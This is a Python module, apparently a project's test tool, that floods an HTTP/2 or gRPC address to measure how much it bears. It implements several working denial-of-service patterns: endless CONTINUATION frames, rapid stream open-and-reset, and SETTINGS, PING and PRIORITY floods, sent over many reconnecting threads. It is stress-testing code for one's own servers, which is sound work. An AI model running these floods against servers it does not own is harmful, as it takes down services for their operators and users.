"""Floods of HTTP/2 frames, to see what a gRPC address bears; see "Who could flood" in docs/envoy.md.

    python -m tests.floods continuation 127.0.0.1:9001 --connections 24 --seconds 10

Only for servers of your own. Each connection sends whole buffers of frames as fast as the
server takes them, and begins anew when the server hangs up.
"""

from __future__ import annotations

import argparse
import contextlib
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable, Iterator
from itertools import count
from typing import Final

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 2, 3, 4, 6, 9
_END_HEADERS: Final = 4
_AT_ONCE: Final = 2000  # frames in one buffer
_PATIENT: Final = 0.5  # seconds; then the server is left for a new connection
# :method POST, :scheme http, :path /; each from the static table (RFC 7541, appendix A).
_REQUEST: Final = b"\x83\x86\x84"
Connect = Callable[[], socket.socket]


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """One frame (RFC 9113, 4.1)."""
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags))
    return head + stream.to_bytes(4, "big") + payload


def _continuation() -> Iterator[bytes]:
    """A block of headers that never ends."""
    yield frame(_HEADERS, stream=1, payload=_REQUEST)
    more = frame(_CONTINUATION, stream=1, payload=b"\x90" * 16) * _AT_ONCE
    while True:
        yield more


def _reset() -> Iterator[bytes]:
    """Streams that are opened and reset at once."""
    code = (8).to_bytes(4, "big")  # CANCEL
    for first in count(1, 2 * _AT_ONCE):
        yield b"".join(
            frame(_HEADERS, _END_HEADERS, stream, _REQUEST) + frame(_RESET, 0, stream, code)
            for stream in range(first, first + 2 * _AT_ONCE, 2)
        )


def _same(one: bytes) -> Callable[[], Iterator[bytes]]:
    def buffers() -> Iterator[bytes]:
        many = one * _AT_ONCE
        while True:
            yield many

    return buffers


FLOODS: Final = {
    "continuation": _continuation,
    "reset": _reset,
    "settings": _same(frame(_SETTINGS)),
    "ping": _same(frame(_PING, payload=bytes(8))),
    "priority": _same(frame(_PRIORITY, stream=1, payload=bytes(5))),
}


@contextlib.contextmanager
def flood(kind: str, connect: Connect, connections: int) -> Iterator[Callable[[], int]]:
    """So many connections flood until the end; gives a function that counts the buffers sent."""
    stop = threading.Event()
    sent = [0] * connections
    threads = [
        threading.Thread(target=_run, args=(kind, connect, stop, sent, number))
        for number in range(connections)
    ]
    for thread in threads:
        thread.start()
    try:
        yield lambda: sum(sent)
    finally:
        stop.set()
        for thread in threads:
            thread.join()


def _run(kind: str, connect: Connect, stop: threading.Event, sent: list[int], number: int) -> None:
    while not stop.is_set():
        with contextlib.suppress(OSError), connect() as connection:
            connection.settimeout(_PATIENT)
            connection.sendall(_PREFACE + frame(_SETTINGS))
            for buffer in FLOODS[kind]():
                connection.sendall(buffer)
                sent[number] += 1
                if stop.is_set():
                    break


def to(address: str, tls: ssl.SSLContext | None = None) -> Connect:
    """How to connect to ``unix:///PATH`` or ``HOST:PORT``."""

    def connect() -> socket.socket:
        if address.startswith("unix://"):
            plain = socket.socket(socket.AF_UNIX)
            plain.settimeout(_PATIENT)
            plain.connect(address.removeprefix("unix://"))
            return plain
        host, _, port = address.rpartition(":")
        plain = socket.create_connection((host, int(port)), timeout=_PATIENT)
        return tls.wrap_socket(plain, server_hostname=host) if tls else plain

    return connect


def _main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("kind", choices=FLOODS)
    parser.add_argument("address", help="unix:///PATH or HOST:PORT")
    parser.add_argument("--connections", type=int, default=24)
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--ca", help="the server's CA, for TLS")
    parser.add_argument("--cert", help="a client certificate and its key, in PEM")
    options = parser.parse_args()
    tls = None
    if options.ca:
        tls = ssl.create_default_context(cafile=options.ca)
        tls.set_alpn_protocols(["h2"])
        if options.cert:
            tls.load_cert_chain(options.cert)
    with flood(options.kind, to(options.address, tls), options.connections) as sent:
        time.sleep(options.seconds)
    sys.stdout.write(f"{sent() * _AT_ONCE / options.seconds:,.0f} frames a second\n")


if __name__ == "__main__":
    _main()
